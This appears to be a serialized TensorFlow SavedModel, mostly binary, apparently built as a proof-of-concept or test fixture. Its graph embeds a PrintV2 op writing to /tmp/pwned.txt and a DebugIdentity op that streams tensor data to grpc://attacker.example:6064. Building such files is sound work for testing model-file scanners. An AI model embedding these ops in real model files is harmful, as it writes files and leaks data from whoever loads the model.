Þ
"serve*2.13.0™

xPlaceholder
9
pPrintV2x*(
output_streamfile:///tmp/pwned.txt
E
dDebugIdentityx*.

debug_urls 
grpc://attacker.example:6064"¿*/
serving_defaulttensorflow/serving/predict